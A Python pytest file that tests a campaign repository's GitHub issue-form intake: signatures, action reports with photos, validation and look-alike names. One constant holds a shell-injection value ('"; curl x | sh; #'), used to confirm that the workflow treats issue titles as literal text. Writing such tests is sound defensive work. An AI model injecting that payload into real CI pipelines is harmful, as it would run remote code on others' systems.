"""The issue-form route: `campaign intake issue --event $GITHUB_EVENT_PATH`, as intake.yml runs it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from campaign.data import dataset, yamlio
from campaign.intake import issue_form
from support.builders import ROOT, git, run
from support.github import FakeGitHub
from support.images import photo

TEMPLATES = ROOT / ".github" / "ISSUE_TEMPLATE"
INJECTION = '"; curl x | sh; #'


def body(stem: str, values: dict[str, Any]) -> str:
    """An issue body as GitHub renders the form `stem` (### label, blank line, value)."""
    template = yaml.safe_load((TEMPLATES / f"{stem}.yml").read_text())
    parts = []
    for item in template["body"]:
        if item["type"] == "markdown":
            continue
        value = values.get(item["id"])
        if item["type"] == "checkboxes":
            options = [o["label"] for o in item["attributes"]["options"]]
            text = "\n".join(f"- [{'X' if checked else ' '}] {label}" for label, checked in zip(options, value or []))
        else:
            text = value or "_No response_"
        parts.append(f"### {item['attributes']['label']}\n\n{text}")
    return "\n\n".join(parts)


def event(tmp_path: Path, stem: str, values: dict[str, Any], title: str = "Signature", number: int = 12,
          label: str = "intake: signature", state: str = "open", author: str = "octo-cat") -> Path:
    data = {"action": "opened", "issue": {
        "number": number, "title": title, "body": body(stem, values), "state": state,
        "user": {"login": author, "type": "User"}, "labels": [{"name": label}]},
        "repository": {"full_name": "free-assange/letter"}}
    path = tmp_path / f"event-{number}.json"
    path.write_text(json.dumps(data))
    return path


@pytest.fixture
def repo_with_forms(git_repo: Path) -> Path:
    shutil.copytree(TEMPLATES, git_repo / ".github" / "ISSUE_TEMPLATE")
    git(git_repo, "add", "-A")
    git(git_repo, "commit", "-qm", "issue forms")
    return git_repo


ORG = {"name": "Reporters United", "country": "NO", "url": "https://example.org", "consent": [True, True]}


def test_the_forms_show_the_current_consent_texts_and_no_email_field() -> None:
    campaign = yaml.safe_load((ROOT / "data" / "campaign.yaml").read_text())
    for stem in ("sign-organisation", "sign-github-user"):
        template = yaml.safe_load((TEMPLATES / f"{stem}.yml").read_text())
        (consent,) = [i for i in template["body"] if i.get("id") == "consent"]
        options = [o["label"] for o in consent["attributes"]["options"]]
        assert options == [campaign["consent"]["publish"], campaign["consent"]["letter"]], stem
        assert template["labels"] == ["intake: signature"]
        ids = {i.get("id") for i in template["body"]}
        assert not any("mail" in str(i) for i in ids), "no email field"
    action = yaml.safe_load((TEMPLATES / "register-action.yml").read_text())
    assert action["labels"] == ["intake: action"]
    assert set(issue_form.KINDS) == {p.stem for p in TEMPLATES.glob("*.yml")} - {"config"}


def test_an_organisation_issue_becomes_a_branch_with_one_signature(repo_with_forms: Path, tmp_path: Path) -> None:
    result = run(repo_with_forms, "intake", "issue", "--event", str(event(tmp_path, "sign-organisation", ORG)),
                 "--forge", "local")
    assert result.exit_code == 0, result.output
    assert "comment on #12" in result.output and "close #12" in result.output
    files = git(repo_with_forms, "diff", "--name-status", "main", "intake/issue-12").split("\n")
    assert len([f for f in files if f]) == 1 and files[0].startswith("A\tdata/signatories/")
    text = git(repo_with_forms, "show", f"intake/issue-12:{files[0].split(chr(9))[1]}")
    data = yamlio.loads(text.encode()).data
    assert data | {"signed": "x"} == {"type": "organisation", "name": "Reporters United", "country": "NO",
                                      "url": "https://example.org", "publish": True, "letter": True,
                                      "consent": "2026-11", "source": "issue", "signed": "x"}
    assert git(repo_with_forms, "status", "--porcelain") == ""


def test_a_hostile_title_and_name_stay_literal_text(repo_with_forms: Path, tmp_path: Path) -> None:
    """intake.yml's own step, run by bash: the issue title `"; curl x | sh; #` (and the same text
    as the name) reaches no shell; it ends up, quoted, as the name in the generated file."""
    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "intake.yml").read_text())
    steps = workflow["jobs"]["intake"]["steps"]
    (step,) = [s for s in steps if "campaign intake issue" in s.get("run", "")]
    assert "${{" not in step["run"], "no expression inside run:"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    canary = tmp_path / "curl-was-run"
    for tool in ("curl", "sh"):
        (bin_dir / tool).write_text(f"#!/bin/bash\ntouch {canary}\n")
        (bin_dir / tool).chmod(0o755)
    path = event(tmp_path, "sign-github-user", {"name": INJECTION, "country": "PT", "consent": [True, False]},
                 title=INJECTION, number=31)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CAMPAIGN_", "GITHUB_"))}
    env |= {"GITHUB_EVENT_PATH": str(path), "CAMPAIGN_FORGE": "local", "CAMPAIGN_BASE": "main",
            "PATH": f"{bin_dir}:{Path(sys.executable).parent}:{env['PATH']}"}
    done = subprocess.run(["/bin/bash", "-e", "-c", step["run"]], cwd=repo_with_forms, env=env, capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    assert not canary.exists(), "the title was executed"
    (rel,) = git(repo_with_forms, "diff", "--name-only", "main", "intake/issue-31").split()
    text = git(repo_with_forms, "show", f"intake/issue-31:{rel}")
    assert "name: '\"; curl x | sh; #'" in text
    assert yamlio.loads(text.encode()).data["name"] == INJECTION
    assert f"Signature (signature): {INJECTION}" in git(repo_with_forms, "log", "-1", "--format=%B", "intake/issue-31")


def test_through_the_github_api_a_pull_request_comment_and_close(repo_with_forms: Path, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """The same command with the `github` forge, against the recorded fake of the GitHub REST API
    served on loopback (the real API cannot be reached from the tests)."""
    with FakeGitHub("free-assange/letter", token="app-token") as gh:
        gh.seed({"README.md": b"x\n"})
        gh.open_issue(12)
        monkeypatch.setenv("CAMPAIGN_GITHUB_TOKEN", "app-token")
        monkeypatch.setenv("CAMPAIGN_GITHUB_API", gh.url)
        result = run(repo_with_forms, "intake", "issue", "--event",
                     str(event(tmp_path, "sign-organisation", ORG, title=INJECTION)))
        assert result.exit_code == 0, result.output
        (pull,) = gh.pulls
        assert pull["head"] == "intake/issue-12" and "#12" in pull["body"] and "@octo-cat" in pull["body"]
        added = {p: d for p, d in gh.files("intake/issue-12").items() if p.startswith("data/signatories/")}
        assert len(added) == 1 and b"name: 'Reporters United'" in next(iter(added.values()))
        assert gh.issues[12]["state"] == "closed"
        (comment,) = gh.issues[12]["comments"]
        assert "https://github.com/free-assange/letter/pull/1" in comment and "@octo-cat" in comment


def test_invalid_and_duplicate_submissions_get_the_validator_s_message(repo_with_forms: Path, tmp_path: Path) -> None:
    bad = run(repo_with_forms, "intake", "issue", "--forge", "local", "--event",
              str(event(tmp_path, "sign-organisation", {**ORG, "country": "XX", "url": "http://insecure"}, number=5)))
    assert bad.exit_code == 0, bad.output
    assert "not added (2 problems)" in bad.output
    assert "'XX' is not an ISO 3166-1 alpha-2 country code" in bad.output and "https://" in bad.output
    assert "close #5" not in bad.output, "left open, to be corrected by editing"
    assert "intake/issue-5" not in git(repo_with_forms, "branch", "--list", "intake/*")
    assert run(repo_with_forms, "sign", "--organisation", "--name", "Reporters United", "--country", "NO",
               "--publish", "--letter").exit_code == 0
    dup = run(repo_with_forms, "intake", "issue", "--forge", "local", "--event",
              str(event(tmp_path, "sign-organisation", ORG, number=6)))
    assert "already signed" in dup.output and "close #6" not in dup.output


def test_other_issues_are_left_alone(repo_with_forms: Path, tmp_path: Path) -> None:
    for path in (event(tmp_path, "sign-organisation", ORG, label="bug", number=7),
                 event(tmp_path, "sign-organisation", ORG, state="closed", number=8)):
        result = run(repo_with_forms, "intake", "issue", "--forge", "local", "--event", str(path))
        assert result.exit_code == 0 and "nothing to do" in result.output
    garbled = tmp_path / "garbled.json"
    garbled.write_text(json.dumps({"issue": {"number": 9, "title": "x", "body": "please add me", "state": "open",
                                             "user": {"login": "someone"}, "labels": [{"name": "intake: signature"}]}}))
    result = run(repo_with_forms, "intake", "issue", "--forge", "local", "--event", str(garbled))
    assert "does not follow the form" in result.output


def test_a_github_user_signs_for_their_country_s_mission(repo_with_forms: Path) -> None:
    ds = dataset.load(repo_with_forms)
    values = {"name": "Jón Jónsson", "country": "is", "consent": [False, True]}
    data = {"issue": {"number": 3, "title": "Signature: ", "body": body("sign-github-user", values), "state": "open",
                      "user": {"login": "jon"}, "labels": [{"name": "intake: signature"}]}}
    outcome = issue_form.handle(repo_with_forms, ds, data)
    assert outcome is not None and outcome.ok, outcome and outcome.problems
    (text,) = outcome.files.values()
    sig = yamlio.loads(text).data
    assert (sig["type"], sig["mission"], sig["publish"], sig["letter"], sig["source"]) == ("individual", "no-oslo", False, True, "issue")


def test_an_action_with_photos(repo_with_forms: Path) -> None:
    ds = dataset.load(repo_with_forms)
    png = photo("png")
    url = "https://github.com/user-attachments/assets/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"
    values = {"type": "delivery", "mission": "pt-lisbon", "date": "2026-12-10", "by": "Amnesty Lisboa",
              "description": "We handed the letter to the embassy.", "photos": f"![photo]({url})\n"}
    data = {"issue": {"number": 40, "title": "Action", "body": body("register-action", values), "state": "open",
                      "user": {"login": "amnesty-pt"}, "labels": [{"name": "intake: action"}]}}
    fetched: list[str] = []
    outcome = issue_form.handle(repo_with_forms, ds, data, fetch=lambda u: fetched.append(u) or png)
    assert outcome is not None and outcome.ok, outcome and outcome.problems
    assert fetched == [url]
    assert set(outcome.files) == {"data/actions/2026-12-10-pt-lisbon-delivery-40.yaml",
                                  "docs/assets/actions/2026-12-10-pt-lisbon-40/1.png"}
    for rel, content in outcome.files.items():
        (repo_with_forms / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo_with_forms / rel).write_bytes(content)
    checked = run(repo_with_forms, "validate", "--base", "main")
    assert checked.exit_code == 0, checked.output
    not_an_image = issue_form.handle(repo_with_forms, ds, data, fetch=lambda u: b"<html>")
    assert not_an_image is not None and not not_an_image.ok and "not a JPEG, PNG or WebP" in not_an_image.problems[0]


def test_the_issue_forms_use_the_same_name_rules(repo_with_forms: Path) -> None:
    """Invisible characters and mark floods are refused, and a look-alike of an existing name is
    proposed but marked for a maintainer (the same rule as the web form and `campaign validate`)."""
    assert run(repo_with_forms, "sign", "--name", "Jón Jónsson", "--country", "IS", "--publish", "--letter").exit_code == 0
    ds = dataset.load(repo_with_forms)

    def submit(name: str) -> issue_form.Outcome:
        values = {"name": name, "country": "IS", "consent": [True, True]}
        data = {"issue": {"number": 11, "title": "Signature", "body": body("sign-github-user", values), "state": "open",
                          "user": {"login": "jon2"}, "labels": [{"name": "intake: signature"}]}}
        outcome = issue_form.handle(repo_with_forms, ds, data)
        assert outcome is not None
        return outcome

    for bad in ("Jón\u034fJónsson", "J" + "\u0301" * 6 + "ón", "\u3164"):
        assert not submit(bad).ok
    look = submit("J\u043e\u0301n J\u043e\u0301nsson")  # Cyrillic o with an acute accent
    assert look.ok and "looks like the one in data/signatories/" in look.review
    assert look.pull_body().startswith("**Held for review:**")
    assert submit("Anna Berg").review == ""
